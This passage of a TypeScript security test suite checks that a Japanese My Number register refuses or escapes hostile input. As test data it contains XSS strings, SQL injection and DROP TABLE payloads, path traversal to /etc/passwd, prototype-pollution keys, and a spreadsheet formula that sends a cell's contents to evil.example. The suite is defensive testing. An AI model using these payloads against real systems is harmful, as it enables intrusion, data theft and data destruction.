  refusedIntake('letters as the number', () => intakeForm({ number: 'ABCDEFGHIJKL' }), /数字以外/u),
  refusedIntake('an XSS number', () => intakeForm({ number: '<script>alert(1)</script>' }), /数字以外/u, { payload: '<script>alert(1)</script>' }),
  refusedIntake('an SQL number', () => intakeForm({ number: "' OR 1=1 --" }), /数字以外/u, { payload: "' OR 1=1 --" }),
  refusedIntake('a NUL byte inside a valid number', () => {
    const n = num();
    return intakeForm({ number: `${n.slice(0, 6)}${NUL}${n.slice(6)}` });
  }, /数字以外/u),
  refusedIntake('the number field repeated (array)', () => intakeForm({ number: [num(), num()] }), SHAPE),
  refusedIntake('a 1,000-character number', () => intakeForm({ number: '1'.repeat(1000) }), SHAPE),
  refusedIntake('a number held by another person', () => intakeForm({ number: heldNumber }), /別の人物に登録済み/u),
  refusedIntake('a number and a refusal reason together', () => intakeForm({ refusalReason: '本人が拒否' }), /どちらか一方/u),
  refusedIntake('a My Number written into the refusal reason', () => intakeForm({ number: '', refusalReason: `番号は ${num()} です` }), /未提供理由|個人番号/u),
  refusedIntake('a hyphenated My Number in the refusal reason', () => {
    const n = num();
    USED.add(`${n.slice(0, 4)}-${n.slice(4, 8)}-${n.slice(8)}`);
    return intakeForm({ number: '', refusalReason: `${n.slice(0, 4)}-${n.slice(4, 8)}-${n.slice(8)}` });
  }, /未提供理由|個人番号/u),
  refusedIntake('a NUL byte in the refusal reason', () => intakeForm({ number: '', refusalReason: `拒否${NUL}` }), /未提供理由/u),
  refusedIntake('a 300-character refusal reason', () => intakeForm({ number: '', refusalReason: 'あ'.repeat(300) }), /未提供理由/u),
  refusedIntake('a 1,000-character refusal reason', () => intakeForm({ number: '', refusalReason: LONG_1K }), SHAPE),
  {
    name: 'POST /persons/:id/intake accepts an XSS refusal reason and shows it escaped (person page and list)',
    who: 'handler',
    setup: freshEmployee,
    send: post(intakePath, () => intakeForm({ number: '', refusalReason: '<script>alert(1)</script>' })),
    status: 303,
    payload: '<script>alert(1)</script>',
    delta: { person_numbers: 1, audit_events: 1 },
    after: async (b, _res, id) => {
      const show = await page(b, `/persons/${id}`, '<script>alert(1)</script>');
      expect(show.text).toContain(`未提供（${esc('<script>alert(1)</script>')}）`);
      const code = vault.persons.byId(id)!.code!;
      const list = await page(b, `/persons?q=${encodeURIComponent(code)}`, '<script>alert(1)</script>');
      expect(list.text).toContain(`未提供（${esc('<script>alert(1)</script>')}）`);
    },
  },
  refusedIntake('an RTL override in the refusal reason', () => intakeForm({ number: '', refusalReason: `${RLO}由理 否拒` }), /未提供理由に使えない文字/u),
  refusedIntake('an unknown purpose', () => intakeForm({ purposes: ['marketing'] }), /利用目的/u),
  refusedIntake('an XSS purpose', () => intakeForm({ purposes: [...EMP_PURPOSES, '<script>alert(1)</script>'] }), /利用目的/u, { payload: '<script>alert(1)</script>' }),
  refusedIntake('the purpose "toString"', () => intakeForm({ purposes: ['toString'] }), /利用目的/u),
  refusedIntake('the purpose "__proto__"', () => intakeForm({ purposes: ['__proto__'] }), /利用目的/u),
  refusedIntake("a payee's purpose for an employee", () => intakeForm({ purposes: ['payment_record_fees'] }), /利用目的/u),
  refusedIntake('no purpose', () => intakeForm({ purposes: [] }), /利用目的/u),
  refusedIntake('21 purposes (over the array limit)', () => intakeForm({ purposes: Array.from({ length: 21 }, () => EMP_PURPOSES[0]!) }), SHAPE),
  refusedIntake('a 201-character purpose', () => intakeForm({ purposes: ['p'.repeat(201)] }), SHAPE),
  refusedIntake('the method "telepathy"', () => intakeForm({ method: 'telepathy' }), /本人確認の方法/u),
  refusedIntake('the method "toString"', () => intakeForm({ method: 'toString' }), /本人確認の方法/u),
  refusedIntake('the method repeated (array)', () => intakeForm({ method: ['in_person', 'mail'] }), SHAPE),
  refusedIntake('a photo ID as the number document', () => intakeForm({ numberDocument: 'passport' }), /番号確認/u),
  refusedIntake('the number document "toString"', () => intakeForm({ numberDocument: 'toString' }), /番号確認/u),
  refusedIntake('the number document "__proto__"', () => intakeForm({ numberDocument: '__proto__' }), /番号確認/u),
  refusedIntake('an XSS number document', () => intakeForm({ numberDocument: '"><img src=x onerror=alert(1)>' }), /番号確認/u, { payload: '"><img src=x onerror=alert(1)>' }),
  refusedIntake('the identity document "toString"', () => intakeForm({ identityDocuments: ['toString'] }), /身元確認/u),
  refusedIntake('the identity document "__proto__"', () => intakeForm({ identityDocuments: ['__proto__'] }), /身元確認/u),
  refusedIntake('the identity documents "constructor" + "hasOwnProperty" with a notification card', () =>
    intakeForm({ numberDocument: 'notification_card', identityDocuments: ['constructor', 'hasOwnProperty'] }), /身元確認/u),
  refusedIntake('an unknown identity document', () => intakeForm({ identityDocuments: ['library_card'] }), /身元確認/u),
  refusedIntake('an XSS identity document', () => intakeForm({ identityDocuments: ['<script>alert(1)</script>'] }), /身元確認/u, { payload: '<script>alert(1)</script>' }),
  refusedIntake('250 identity documents (parameter limit → 413)', () => intakeForm({ identityDocuments: Array.from({ length: 250 }, () => 'passport') }), TOO_LARGE, { status: 413 }),
  refusedIntake('the check date 2023-02-30', () => intakeForm({ checkedOn: '2023-02-30' }), /確認日/u),
  refusedIntake('the check date 令和99年13月1日', () => intakeForm({ checkedOn: '令和99年13月1日' }), /確認日/u),
  refusedIntake('the check date 0000-00-00', () => intakeForm({ checkedOn: '0000-00-00' }), /確認日/u),
  refusedIntake('a check date in the future', () => intakeForm({ checkedOn: '2099-12-31' }), /未来/u),
  refusedIntake('an XSS check date (echoed escaped)', () => intakeForm({ checkedOn: '"><script>alert(1)</script>' }), /確認日/u, {
    payload: '"><script>alert(1)</script>',
    echoed: true,
  }),
  refusedIntake('a NUL byte in the note', () => intakeForm({ note: `備考${NUL}` }), /備考/u),
  refusedIntake('a 300-character note', () => intakeForm({ note: 'あ'.repeat(300) }), /備考/u),
  refusedIntake('a 1,000-character note', () => intakeForm({ note: LONG_1K }), SHAPE),
  {
    name: 'POST /persons/:id/intake accepts an XSS note (stored, never rendered raw)',
    who: 'handler',
    setup: freshEmployee,
    send: post(intakePath, () => intakeForm({ note: '<script>alert(1)</script>' })),
    status: 303,
    payload: '<script>alert(1)</script>',
    delta: HELD,
  },
  refusedIntake('a 100,000-character note (413)', () => intakeForm({ note: LONG_100K }), TOO_LARGE, { status: 413 }),
  refusedIntake('number[$ne] instead of number (operator injection)', () => {
    const f = intakeForm();
    delete f.number;
    return { ...f, 'number[$ne]': '' };
  }, /個人番号が入力されていません/u),
  refusedIntake('a JSON body instead of a form', () => ({}), /利用目的/u, {
    send: (b, id) => postJson(intakePath(id), { purposes: EMP_PURPOSES, number: num() })(b),
  }),
  {
    name: 'POST /persons/:id/intake refuses a corporate payee',
    who: 'handler',
    send: post((_) => intakePath(ids.corpPayee), () => intakeForm({ purposes: purposeCodesFor('payee') })),
    status: 400,
    message: /法人/u,
  },
  {
    name: 'POST /persons/:id/intake refuses a second number for a person already holding one',
    who: 'handler',
    send: post((_) => intakePath(ids.heldEmp), () => intakeForm()),
    status: 409,
    message: /登録済み/u,
  },
  ...['1e3', '..%2F..%2Fetc%2Fpasswd', '-1'].map(
    (bad): Case => ({
      name: `POST /persons/${bad}/intake is not found`,
      who: 'handler',
      send: post(`/persons/${bad}/intake`, () => intakeForm()),
      status: 404,
      message: NOT_FOUND,
    }),
  ),
];

// ---------------------------------------------------------------------------
// POST /admin/users, POST /admin/users/:id/pin

const userForm = (over: Form = {}): Form => ({ login: uniq('u'), displayName: '新規 利用者', role: 'handler', password: 'a long enough password', ...over });
const refusedUser = (label: string, over: () => Form, message?: RegExp, opts: Partial<Case> = {}): Case => ({
  name: `POST /admin/users refuses ${label}`,
  who: 'admin',
  send: post('/admin/users', () => userForm(over())),
  status: 400,
  message,
  ...opts,
});
const acceptedDisplayName = (value: string): Case => ({
  name: `POST /admin/users accepts the display name ${JSON.stringify(value)} and lists it escaped`,
  who: 'admin',
  send: post('/admin/users', () => userForm({ displayName: value })),
  status: 303,
  payload: value,
  delta: { users: 1, audit_events: 1 },
  after: async (b) => expectEscaped((await page(b, '/admin/users', value)).text, value),
});

const userCases: Case[] = [
  acceptedDisplayName('<script>alert(1)</script>'),
  acceptedDisplayName('"><img src=x onerror=alert(1)>'),
  refusedUser('an XSS login (re-rendered escaped)', () => ({ login: '<script>alert(1)</script>' }), /ユーザー名/u, { payload: '<script>alert(1)</script>', echoed: true }),
  refusedUser("the login admin'--", () => ({ login: "admin'--" }), /ユーザー名/u, { payload: "admin'--", echoed: true }),
  refusedUser("the login ' OR 1=1 --", () => ({ login: "' OR 1=1 --" }), /ユーザー名/u),
  refusedUser('a NUL byte in the login', () => ({ login: `ab${NUL}c` }), /ユーザー名/u),
  refusedUser('an RTL override in the login', () => ({ login: `ab${RLO}cd` }), /ユーザー名/u),
  refusedUser('emoji in the login', () => ({ login: 'user😀' }), /ユーザー名/u),
  refusedUser('a full-width copy of an existing login', () => ({ login: 'ｔａｎｔｏ' }), /既に使われています/u),
  refusedUser('a 1,000-character login', () => ({ login: 'a'.repeat(1000) }), SHAPE),
  refusedUser('the login repeated (array)', () => ({ login: ['ab', 'cd'] }), SHAPE),
  refusedUser('a NUL byte in the display name', () => ({ displayName: `山田${NUL}太郎` }), /氏名/u),
  refusedUser('a BEL and ESC in the display name', () => ({ displayName: '山田\u0007\u001b[31m太郎' }), /氏名/u),
  refusedUser('a 1,000-character display name', () => ({ displayName: LONG_1K }), SHAPE),
  refusedUser('a 51-character display name', () => ({ displayName: '山'.repeat(51) }), /氏名/u),
  refusedUser('a display name of spaces only', () => ({ displayName: '　 \t ' }), /氏名/u),
  refusedUser('the role "superadmin"', () => ({ role: 'superadmin' }), /役割/u),
  refusedUser('the role "ADMIN"', () => ({ role: 'ADMIN' }), /役割/u),
  refusedUser('the role "toString"', () => ({ role: 'toString' }), /役割/u),
  refusedUser('the role "__proto__"', () => ({ role: '__proto__' }), /役割/u),
  refusedUser('the role "constructor"', () => ({ role: 'constructor' }), /役割/u),
  refusedUser('the role "hasOwnProperty"', () => ({ role: 'hasOwnProperty' }), /役割/u),
  refusedUser('an XSS role', () => ({ role: '<script>alert(1)</script>' }), /役割|形式が正しくありません/u, { payload: '<script>alert(1)</script>' }),
  refusedUser('a short XSS role', () => ({ role: '<svg onload=x>' }), /役割/u, { payload: '<svg onload=x>' }),
  refusedUser('the role repeated (array)', () => ({ role: ['admin', 'handler'] }), SHAPE),
  refusedUser('an 11-character password', () => ({ password: 'abcdefghijk' }), /12文字以上/u),
  refusedUser('a password of one repeated letter', () => ({ password: 'aaaaaaaaaaaa' }), /同じ文字/u),
  refusedUser('a 1,000-character password', () => ({ password: 'p'.repeat(1000) }), SHAPE),
  refusedUser('the password repeated (array)', () => ({ password: ['a long enough password', 'another long password'] }), SHAPE),
  refusedUser('a 100 KB body (413)', () => ({ displayName: LONG_100K }), TOO_LARGE, { status: 413 }),
  refusedUser('a missing CSRF token', () => ({}), CSRF, { status: 403, send: post('/admin/users', () => userForm(), null) }),
];

const GOOD_PIN = '739164';
const pinPath = () => `/admin/users/${auditorId}/pin`;
const refusedPin = (label: string, form: () => Form, message?: RegExp, opts: Partial<Case> = {}): Case => ({
  name: `POST /admin/users/:id/pin refuses ${label}`,
  who: 'admin',
  send: post((_) => pinPath(), form),
  status: 400,
  message,
  ...opts,
});
const pinCases: Case[] = [
  refusedPin('a 5-digit PIN', () => ({ adminPin: ADMIN.pin, newPin: '19283' }), /6〜12桁/u),
  refusedPin('the sequential PIN 123456', () => ({ adminPin: ADMIN.pin, newPin: '123456' }), /連続/u),
  refusedPin('the PIN 111111', () => ({ adminPin: ADMIN.pin, newPin: '111111' }), /同じ数字/u),
  refusedPin('letters as a PIN', () => ({ adminPin: ADMIN.pin, newPin: 'abcdef' }), /6〜12桁/u),
  refusedPin('an XSS PIN', () => ({ adminPin: ADMIN.pin, newPin: '<script>alert(1)</script>' }), /6〜12桁/u, { payload: '<script>alert(1)</script>' }),
  refusedPin('a NUL byte inside a PIN', () => ({ adminPin: ADMIN.pin, newPin: `739${NUL}164` }), /6〜12桁/u),
  refusedPin('a full-width sequential PIN', () => ({ adminPin: ADMIN.pin, newPin: '１２３４５６' }), /連続/u),
  refusedPin('a 13-digit PIN', () => ({ adminPin: ADMIN.pin, newPin: '7391647391647' }), /6〜12桁/u),
  refusedPin('the new PIN repeated (array)', () => ({ adminPin: ADMIN.pin, newPin: [GOOD_PIN, '846271'] }), SHAPE),
  refusedPin('a 1,000-character PIN', () => ({ adminPin: ADMIN.pin, newPin: '7'.repeat(1000) }), SHAPE),
  refusedPin('a wrong admin PIN (audited)', () => ({ adminPin: '000000', newPin: GOOD_PIN }), /PINが正しくありません/u, { auditRange: [1, 1] }),
  refusedPin('an XSS admin PIN (audited)', () => ({ adminPin: '<script>alert(1)</script>', newPin: GOOD_PIN }), /PINが正しくありません/u, { auditRange: [1, 1] }),
  refusedPin("the admin PIN ' OR 1=1 -- (audited)", () => ({ adminPin: "' OR 1=1 --", newPin: GOOD_PIN }), /PINが正しくありません/u, { auditRange: [1, 1] }),
  refusedPin('the admin PIN repeated (array)', () => ({ adminPin: [ADMIN.pin, '000000'], newPin: GOOD_PIN }), SHAPE),
  refusedPin('a 100 KB body (413)', () => ({ adminPin: ADMIN.pin, newPin: LONG_100K }), TOO_LARGE, { status: 413 }),
  ...['..%2F..%2Fetc%2Fpasswd', "'%20OR%201%3D1%20--", 'toString', '%3Cscript%3Ealert(1)%3C%2Fscript%3E'].map(
    (bad): Case => ({
      name: `POST /admin/users/${bad}/pin is not found`,
      who: 'admin',
      send: post(`/admin/users/${bad}/pin`, () => ({ adminPin: ADMIN.pin, newPin: GOOD_PIN })),
      status: 404,
      message: NOT_FOUND,
    }),
  ),
];

// ---------------------------------------------------------------------------
// POST /login (anonymous; failed sign-ins are audited, so audit_events may grow)

const refusedLogin = (label: string, form: () => Form, status: number | number[], message?: RegExp, opts: Partial<Case> = {}): Case => ({
  name: `POST /login refuses ${label}`,
  who: 'anon',
  send: post('/login', form),
  status,
  message,
  auditRange: [0, 2],
  ...opts,
});
const DENIED = /ユーザー名またはパスワードが正しくありません|試行が多すぎます|ロックされています/u;
const loginCases: Case[] = [
  refusedLogin('an XSS login (re-rendered escaped)', () => ({ login: '<script>alert(1)</script>', password: 'x' }), [401, 429], DENIED, {
    payload: '<script>alert(1)</script>',
    echoed: true,
  }),
  refusedLogin("the login ' OR 1=1 --", () => ({ login: "' OR 1=1 --", password: "' OR '1'='1" }), [401, 429], DENIED, { payload: "' OR 1=1 --" }),
  refusedLogin("the login kanri'--", () => ({ login: "kanri'--", password: 'x' }), [401, 429], DENIED),
  refusedLogin('the login "%"', () => ({ login: '%', password: 'x' }), [401, 429], DENIED),
  refusedLogin('the login "_____"', () => ({ login: '_____', password: 'x' }), [401, 429], DENIED),
  refusedLogin('a NUL byte in the login', () => ({ login: `kanri${NUL}`, password: ADMIN.password }), [401, 429], DENIED),
  refusedLogin('an RTL override in the login', () => ({ login: `${RLO}irnak`, password: 'x' }), [401, 429], DENIED),
  refusedLogin('the template login ${7*7}', () => ({ login: '${7*7}', password: 'x' }), [401, 429], DENIED),
  refusedLogin("the password ' OR '1'='1 for a real account", () => ({ login: AUDITOR.login, password: "' OR '1'='1" }), [401, 423, 429], DENIED),
  refusedLogin('an XSS password for a full-width real login', () => ({ login: 'ｋａｎｓａ', password: '<script>alert(1)</script>' }), [401, 423, 429], DENIED),
  refusedLogin('the right password with a NUL byte inside', () => ({ login: AUDITOR.login, password: `auditor${NUL}password 1` }), [401, 423, 429], DENIED),
  refusedLogin('a 1,000-character login', () => ({ login: 'k'.repeat(1000), password: 'x' }), 400, SHAPE),
  refusedLogin('the login repeated (array)', () => ({ login: [ADMIN.login, HANDLER.login], password: ADMIN.password }), 400, SHAPE),
  refusedLogin('the password repeated (array)', () => ({ login: ADMIN.login, password: [ADMIN.password, 'x'] }), 400, SHAPE),
  refusedLogin('a 100 KB password (413)', () => ({ login: ADMIN.login, password: LONG_100K }), 413, TOO_LARGE),
  refusedLogin('a missing CSRF token', () => ({}), 403, CSRF, { send: post('/login', () => ({ login: ADMIN.login, password: ADMIN.password }), null) }),
  refusedLogin('the CSRF token repeated (array)', () => ({}), 403, CSRF, {
    send: (b) => b.post('/login', { _csrf: [b.csrf, b.csrf], login: ADMIN.login, password: ADMIN.password }, null),
  }),
];

// ---------------------------------------------------------------------------
// GET /persons?q=…&page=…&kind=… and GET /persons/<weird id>

/** The list's count for q, computed independently of SQL LIKE (ASCII case folding only). */
function literalMatches(q: string): number {
  const needle = q.normalize('NFKC').trim().slice(0, 100);
  const fold = (s: string) => s.replace(/[A-Z]/gu, (c) => c.toLowerCase());
  const rows = vault.db.prepare('SELECT name, kana, code FROM persons').raw().all() as (string | null)[][];
  return rows.filter((r) => r.some((v) => v !== null && fold(v).includes(fold(needle)))).length;
}
const listCount = (html: string) => Number(/<p class="count">([\d,]+) 件/u.exec(html)?.[1]?.replace(/,/gu, ''));

const listCase = (label: string, query: string, opts: Partial<Case> = {}): Case => ({
  name: `GET /persons?${label}`,
  who: 'handler',
  send: get(`/persons?${query}`),
  status: 200,
  ...opts,
});
const literalSearch = (q: string): Case =>
  listCase(`q=${q} matches only literally (no SQL or LIKE injection)`, `q=${encodeURIComponent(q)}`, {
    payload: q,
    echoed: /[<>"'&]/u.test(q),
    after: async (_b, res) => expect(listCount(res.text)).toBe(literalMatches(q)),
  });

const listCases: Case[] = [
  ...["' OR 1=1 --", "' UNION SELECT login, password_hash FROM users --", '%', '_', '\\', '%_%', '\\%', "'; DROP TABLE persons; --"].map(literalSearch),
  ...XSS.slice(0, 5).map((x) => listCase(`q=${x} is echoed escaped`, `q=${encodeURIComponent(x)}`, { payload: x, echoed: /[<>"'&]/u.test(x) })),
  listCase('q of 1,000 characters', `q=${encodeURIComponent(LONG_1K)}`),
  listCase('q with a NUL byte', `q=${encodeURIComponent(`山田${NUL}`)}`),
  listCase('q with an RTL override', `q=${encodeURIComponent(`${RLO}田山`)}`),
  listCase('q cut in the middle of a surrogate pair', `q=${encodeURIComponent(`a${'😀'.repeat(60)}`)}`),
  listCase('q repeated (array)', 'q=a&q=b'),
  listCase('q[$ne]= (operator injection)', 'q%5B%24ne%5D=x'),
  listCase('q with malformed percent-encoding', 'q=%E0%A4%A'),
  // Keyset cursors from the URL: anything but a well-formed cursor shows the first page.
  ...['-1', '0', '99999999999999999999', 'NaN', '%3Cscript%3E', '1%00', 'WyJ4IiwtNV0', 'WyJ4IiwxLDJd', 'x'.repeat(3000)].flatMap((p) =>
    ['after', 'before'].map((param) =>
      listCase(`${param}=${p.slice(0, 40)}`, `${param}=${p}`, {
        after: async (_b, res) => expect(res.text).toMatch(/<p class="count">[\d,]+ 件/u),
      }),
    ),
  ),
  listCase('page= (the old paging) is ignored', 'page=999999', {
    after: async (_b, res) => expect(res.text).toMatch(/<p class="count">[\d,]+ 件/u),
  }),
  listCase('kind=<script>', `kind=${encodeURIComponent('<script>alert(1)</script>')}`, { payload: '<script>alert(1)</script>' }),
  listCase('kind=toString', 'kind=toString'),
  listCase('kind repeated (array)', 'kind=employee&kind=payee'),
  listCase('status=<script>', `status=${encodeURIComponent('"><script>alert(1)</script>')}`, { payload: '"><script>alert(1)</script>' }),
];

const idCases: Case[] = [
  '1e3',
  '-1',
  '0',
  '99999999999999999999',
  '9007199254740993',
  '..%2F..%2Fetc%2Fpasswd',
  '../../etc/passwd',
  '%00',
  '1%00',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '1%20OR%201%3D1',
  '0x10',
  '01',
  '1.0',
  '%EF%BC%91',
  'constructor',
  '%E0%A4%A',
].map(
  (bad): Case => ({
    name: `GET /persons/${bad} is refused without a stack trace`,
    who: 'handler',
    send: get(`/persons/${bad}`),
    status: [400, 404],
    message: /見つかりません|登録されていません|存在しません|形式が正しくありません/u,
  }),
);

// ---------------------------------------------------------------------------
// Self-intake with a code issued in the test (anonymous person)

const selfForm = (over: Form = {}): Form => ({ code: selfCode, own: num(), acknowledged: 'yes', ...over });
const refusedSelf = (label: string, form: () => Form, status: number | number[], message?: RegExp, opts: Partial<Case> = {}): Case => ({
  name: `POST /intake (self-intake) refuses ${label}`,
  who: 'self',
  send: post('/intake', form),
  status,
  message,
  ...opts,
});
const selfCases: Case[] = [
  refusedSelf('an 11-digit number', () => selfForm({ own: elevenDigits() }), 400, /11桁/u),
  refusedSelf('a 13-digit number', () => selfForm({ own: `${num()}1` }), 400, /13桁/u),
  refusedSelf('a wrong check digit', () => selfForm({ own: wrongCheck() }), 400, /チェックデジット/u),
  refusedSelf('a number with letters', () => selfForm({ own: `${num().slice(0, 10)}AB` }), 400, /数字以外/u),
  refusedSelf('an XSS number', () => selfForm({ own: '"><script>alert(1)</script>' }), 400, /数字以外/u, { payload: '"><script>alert(1)</script>' }),
  refusedSelf('a NUL byte in the number', () => selfForm({ own: `${NUL}${num()}` }), 400, /数字以外/u),
  {
    // Its own code: the app may use the code up here (so a code holder cannot probe the register).
    name: 'POST /intake (self-intake) refuses a number held by another person',
    who: 'self',
    setup: () => {
      const id = freshEmployee();
      dupCode = issueIntakeCode(vault, actor, id, null, defaultCodePurposes(vault, id)).code;
      return id;
    },
    send: post('/intake', () => ({ code: dupCode, own: heldNumber, acknowledged: 'yes' })),
    status: [400, 409],
    message: /別の人物に登録済み|お手続きを完了できませんでした/u,
    auditRange: [0, 1],
  },
  refusedSelf('the number repeated (array)', () => selfForm({ own: [num(), num()] }), 400, SHAPE),
  refusedSelf('a 1,000-character number', () => selfForm({ own: '9'.repeat(1000) }), 400, SHAPE),
  refusedSelf('a valid number without the acknowledgement', () => {
    const f = selfForm();
    delete f.acknowledged;
    return f;
  }, 400, /利用目的を確認/u),
  refusedSelf("the own number again as a dependant's", () => {
    const n = num();
    return selfForm({ own: n, [`dependant_${ids.selfDep}`]: n });
  }, 400, /本人と同じ/u),
  refusedSelf("a 13-digit dependant's number", () => selfForm({ [`dependant_${ids.selfDep}`]: `${num()}5` }), 400, /13桁/u),
  refusedSelf('a 41-character field name', () => selfForm({ ['x'.repeat(41)]: '1' }), 400, SHAPE),
  refusedSelf('an XSS code', () => selfForm({ code: '<script>alert(1)</script>' }), 404, /入力コードが正しくありません/u, { payload: '<script>alert(1)</script>' }),
  refusedSelf('an SQL code', () => selfForm({ code: "' OR 1=1 --" }), 404, /入力コードが正しくありません/u),
  refusedSelf('the code repeated (array)', () => selfForm({ code: [selfCode, selfCode] }), 400, SHAPE),
  refusedSelf('a 100 KB body (413)', () => selfForm({ own: LONG_100K }), 413, TOO_LARGE),
  {
    name: 'GET /intake?code=<script> is refused without echoing the code',
    who: 'anon',
    send: get(`/intake?code=${encodeURIComponent('<script>alert(1)</script>')}`),
    status: 404,
    message: /入力コードが正しくありません/u,
    payload: '<script>alert(1)</script>',
  },
  {
    name: "GET /intake?code=' OR 1=1 -- is refused",
    who: 'anon',
    send: get(`/intake?code=${encodeURIComponent("' OR 1=1 --")}`),
    status: 404,
    message: /入力コードが正しくありません/u,
  },
];

// ---------------------------------------------------------------------------
// CSV upload (POST /imports)

const csv = (s: string) => Buffer.from(s, 'utf8');
const HEAD = 'kind,code,name,kana,birth_date,my_number\n';
const row = (over: { kind?: string; code?: string; name?: string; kana?: string; birth?: string; number?: string } = {}) =>
  [over.kind ?? 'employee', over.code ?? uniq('C'), over.name ?? '取込 太郎', over.kana ?? 'トリコミ タロウ', over.birth ?? '1985-01-15', over.number ?? num()].join(',');

const upload = (bytes: () => Buffer, query = '', csrf?: string | null) => (b: Browser) => b.upload(`/imports?${ALL_PURPOSES_QUERY}${query.replace('?', '&')}`, bytes(), csrf === undefined ? b.csrf : csrf);
const refusedCsv = (label: string, bytes: () => Buffer, message?: RegExp, opts: Partial<Case> = {}): Case => ({
  name: `POST /imports refuses ${label}`,
  who: 'handler',
  send: upload(bytes),
  status: 422,
  message,
  ...opts,
});

/** After a committed import: each listed name is stored as written and shown escaped. */
const importedNames = (names: string[]) => async (b: Browser) => {
  for (const name of names) {
    const id = vault.db.prepare('SELECT max(id) FROM persons WHERE name = ?').pluck().get(name) as number | null;
    expect(id, `imported ${JSON.stringify(name)}`).not.toBeNull();
    await expectPersonShown(b, id!, name);
  }
};

const CSV_XSS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg onload=alert(1)>'];
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"クリック")';
const csvCases: Case[] = [
  {
    name: 'POST /imports accepts XSS names and shows them escaped',
    who: 'handler',
    send: upload(() => csv(HEAD + CSV_XSS.map((n) => row({ name: `"${n.replace(/"/gu, '""')}"` })).join('\n') + '\n')),
    status: 200,
    delta: { persons: 3, person_numbers: 3, audit_events: 1 },
    after: importedNames(CSV_XSS),
  },
  {
    name: 'POST /imports with a formula-injection name: stored as text and shown escaped, or refused',
    who: 'handler',
    send: upload(() => csv(HEAD + row({ name: `"${FORMULA.replace(/"/gu, '""')}"` }) + '\n')),
    status: [200, 422],
    delta: { persons: 1, person_numbers: 1, audit_events: 1 },
    after: importedNames([FORMULA]),
  },
  {
    name: 'POST /imports with an invalid UTF-8 sequence (falls back to Shift_JIS): imported or refused, never broken',
    who: 'handler',
    send: upload(() => Buffer.concat([csv(`${HEAD}employee,${uniq('C')},`), Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xff]), csv(`,,1985-01-15,${num()}\n`)])),
    status: [200, 422],
    delta: { persons: 1, person_numbers: 1, audit_events: 1 },
  },
  refusedCsv('a UTF-16LE file with a BOM', () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(HEAD + row() + '\n', 'utf16le')]), JAPANESE),
  refusedCsv('a UTF-16BE file with a BOM', () => {
    const le = Buffer.from(HEAD + row() + '\n', 'utf16le');
    return Buffer.concat([Buffer.from([0xfe, 0xff]), le.swap16()]);
  }, JAPANESE),
  refusedCsv('a binary blob', () => {
    const out = Buffer.alloc(4096);
    let x = 0x2545f491;
    for (let i = 0; i < out.length; i++) {
      x ^= x << 13;
      x ^= x >>> 17;
      x ^= x << 5;
      out[i] = x & 0xff;
    }
    return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), out]);
  }, JAPANESE),
  refusedCsv('a file with only a header', () => csv(HEAD), /データ行がありません/u),
  refusedCsv('an empty file', () => Buffer.alloc(0), /ファイルが空/u),
  refusedCsv('a file of a BOM and blank lines', () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), csv('\r\n\r\n\n')]), /ファイルが空|必須の列/u),
  refusedCsv('an unclosed quote', () => csv(`${HEAD}employee,${uniq('C')},"山田 太郎,ヤマダ,1985-01-15,${num()}\n`), /CSVとして読めません/u),
  refusedCsv('a quote in the middle of a cell', () => csv(`${HEAD}employee,${uniq('C')},山"田,ヤマダ,1985-01-15,${num()}\n`), /CSVとして読めません/u),
  refusedCsv('a row with 200 columns', () => csv(`${HEAD}${row()}${',x'.repeat(194)}\n`), /列の数/u),
  refusedCsv('a header with 200 columns', () => csv(`${HEAD.trim()}${Array.from({ length: 194 }, (_, i) => `,extra${i}`).join('')}\n${row()}${',x'.repeat(194)}\n`), /不明な列/u),
  refusedCsv('prototype names as headers', () => csv(`__proto__,constructor,toString,hasOwnProperty\n1,2,3,4\n`), /不明な列|必須の列/u),
  refusedCsv('a 13-digit number', () => csv(HEAD + row({ number: `${num()}0` }) + '\n'), /13桁/u),
  refusedCsv('an 11-digit number', () => csv(HEAD + row({ number: elevenDigits() }) + '\n'), /11桁/u),
  refusedCsv('a wrong check digit', () => csv(HEAD + row({ number: wrongCheck() }) + '\n'), /チェックデジット/u),
  refusedCsv('a number with letters', () => csv(HEAD + row({ number: `${num().slice(0, 8)}ABCD` }) + '\n'), /数字以外/u),
  refusedCsv('a NUL byte in a cell', () => csv(HEAD + row({ name: `山田${NUL}太郎` }) + '\n'), /制御文字/u),
  refusedCsv('a line separator (U+2028) in a cell', () => csv(HEAD + row({ name: '山田\u2028太郎' }) + '\n'), /制御文字/u),
  refusedCsv('a 1,000-character name', () => csv(HEAD + row({ name: LONG_1K }) + '\n'), /長すぎます/u),
  refusedCsv('an SQL code', () => csv(HEAD + row({ code: "'; DROP TABLE persons; --" }) + '\n'), /社員番号/u),
  refusedCsv('an SQL supporter code', () => csv(`kind,code,name,relationship,my_number\ndependant,"' OR 1=1 --",扶養 花子,子,${num()}\n`), /扶養元社員番号/u),
  refusedCsv('the same number twice in the file', () => {
    const n = num();
    return csv(HEAD + row({ number: n }) + '\n' + row({ number: n }) + '\n');
  }, /重複/u),
  refusedCsv('a number already in the vault', () => csv(HEAD + row({ number: heldNumber }) + '\n'), /既に登録済み/u),
  refusedCsv('a My Number in the kind column, without echoing it', () => csv(HEAD + row({ kind: num() }) + '\n'), /種別/u),
  refusedCsv('a My Number in the birth-date column, without echoing it', () => csv(HEAD + row({ birth: num() }) + '\n'), /生年月日/u),
  refusedCsv('only bad rows with skip=1', () => csv(HEAD + row({ number: `${num()}0` }) + '\n' + row({ birth: '2023-02-30' }) + '\n'), /13桁|生年月日/u, {
    send: upload(() => csv(HEAD + row({ number: `${num()}0` }) + '\n' + row({ birth: '2023-02-30' }) + '\n'), '?skip=1'),
  }),
  refusedCsv('a missing CSRF header', () => csv(HEAD + row() + '\n'), CSRF, { status: 403, send: upload(() => csv(HEAD + row() + '\n'), '', null) }),
];

// ---------------------------------------------------------------------------

const AREAS: [string, Case[]][] = [
  ['POST /persons', personCases],
  ['POST /persons/:id/dependants', dependantCases],
  ['POST /persons/:id (edit)', editCases],
  ['retire and end-dependant dates', dateCases],
  // Before intake: a refusal reason that leaks a number would otherwise show on every unfiltered list page.
  ['GET /persons (list)', listCases],
